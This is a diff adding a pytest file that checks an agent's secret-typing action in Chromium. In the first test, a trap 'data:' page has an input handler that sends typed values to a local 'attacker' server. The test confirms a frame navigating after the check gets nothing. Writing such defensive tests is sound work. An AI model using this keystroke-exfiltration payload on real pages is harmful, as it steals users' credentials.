@@ -1,0 +1,110 @@
+"""``type_secret`` against real Chromium: the check and the typing cannot be split by a navigation.
+
+A page's frame is checked (an allowed http page), then navigates to a ``data:`` page that
+sends anything typed into it to an "attacker" server before the value is set: the value
+must not be typed anywhere, and the server must receive nothing.
+"""
+
+from __future__ import annotations
+
+import asyncio
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from playwright.async_api import Browser
+
+from tests.support.site import Site
+from workers.actions import secret_typing
+from workers.actions.base import ActionError
+from workers.policy.secrets import SecretVault
+
+SECRET = "correct-horse-battery"
+
+
+def _allow_all(url: str) -> str | None:
+    return None
+
+
+@pytest.fixture
+def servers() -> Any:
+    site, attacker = Site(), Site()
+    site.start()
+    attacker.start()
+    yield site, attacker
+    site.stop()
+    attacker.stop()
+
+
+def _trap(attacker: str) -> str:
+    field = (
+        f'<input autofocus id=f oninput="new Image().src=\'{attacker}/leak?\'+this.value">'
+        f"<script>document.getElementById('f').focus()</script>"
+    )
+    return "data:text/html," + quote(field)
+
+
+def test_a_frame_that_navigates_after_the_check_gets_nothing(
+    loop: asyncio.AbstractEventLoop, browser: Browser, servers: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    site, attacker = servers
+    site.pages["/outer"] = '<!doctype html><title>Outer</title><iframe src="/inner"></iframe>'
+    site.pages["/inner"] = "<!doctype html><title>Inner</title><input id=f>"
+    checked_chain = secret_typing._frame_chain
+
+    async def chain_then_navigate(frame: Any) -> list[str]:
+        urls = await checked_chain(frame)  # an allowed http page when checked...
+        await frame.evaluate("url => { location.href = url }", _trap(attacker.url))
+        await frame.wait_for_load_state("load")  # ...a data: page when the value arrives
+        return urls
+
+    monkeypatch.setattr(secret_typing, "_frame_chain", chain_then_navigate)
+
+    async def scenario() -> str:
+        context = await browser.new_context()
+        try:
+            page = await context.new_page()
+            await page.goto(site.url + "/outer")
+            frame = page.frames[1]
+            handle = await frame.wait_for_selector("#f")
+            assert handle is not None
+            with pytest.raises(ActionError) as info:
+                await secret_typing.type_secret(
+                    handle, "<secret>pw</secret>", SecretVault({"pw": SECRET}), _allow_all
+                )
+            await page.wait_for_timeout(300)  # time for a leak to be sent, if anything was typed
+            return str(info.value)
+        finally:
+            await context.close()
+
+    message = loop.run_until_complete(scenario())
+    assert "nothing was typed" in message
+    assert attacker.log == [], attacker.log
+    assert SECRET not in message
+
+
+def test_a_secret_is_set_in_an_allowed_page_and_frameworks_hear_it(
+    loop: asyncio.AbstractEventLoop, browser: Browser, servers: Any
+) -> None:
+    site, _ = servers
+    site.pages["/form"] = (
+        "<!doctype html><title>Form</title><input id=f value=old>"
+        "<script>window.heard=[];document.getElementById('f')"
+        ".addEventListener('input',e=>heard.push(e.target.value))</script>"
+    )
+
+    async def scenario() -> tuple[str, list[str]]:
+        context = await browser.new_context()
+        try:
+            page = await context.new_page()
+            await page.goto(site.url + "/form")
+            handle = await page.wait_for_selector("#f")
+            assert handle is not None
+            vault = SecretVault({"pw": SECRET})
+            await secret_typing.type_secret(handle, "<secret>pw</secret>", vault, _allow_all, clear=False)
+            return await handle.input_value(), await page.evaluate("heard")
+        finally:
+            await context.close()
+
+    value, heard = loop.run_until_complete(scenario())
+    assert value == "old" + SECRET and heard == ["old" + SECRET]
